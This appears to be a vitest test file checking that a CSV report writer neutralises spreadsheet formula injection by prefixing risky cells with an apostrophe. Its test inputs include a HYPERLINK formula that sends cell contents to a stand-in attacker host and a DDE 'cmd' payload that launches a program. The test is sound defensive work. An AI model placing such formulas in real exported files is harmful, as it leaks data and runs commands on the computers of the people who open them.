import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { inertCell, writeCsv } from "../../src/reports/shared/csv-writer";
import type { ReportSink } from "../../src/reports/shared/output";

function memorySink(): ReportSink & { text(): string } {
  const chunks: string[] = [];
  return {
    write: async (chunk) => {
      chunks.push(chunk);
    },
    commit: async () => {},
    abort: async () => {},
    text: () => chunks.join(""),
  };
}

describe("CSV cells from the server", () => {
  it("cannot run as a spreadsheet formula: text that begins like one is prefixed with an apostrophe", async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
    ];
    const sink = memorySink();
    await writeCsv(
      sink,
      ["message", "count"],
      hostile.map((message, index) => ({ message, count: -index })),
    );
    const rows = parse(sink.text(), { columns: true }) as { message: string; count: string }[];
    expect(rows.map((row) => row.message)).toEqual(hostile.map((text) => `'${text}`));
    // Numbers are not text: a negative count stays a number.
    expect(rows.map((row) => row.count)).toEqual(["0", "-1", "-2", "-3", "-4", "-5"]);
  });

  it("leaves ordinary text as it is, a formula character later in the text included", () => {
    for (const text of ["Timeout after 30 s", "a=b", "user@example.com", "", "x-1"]) {
      expect(inertCell(text)).toBe(text);
    }
  });
});
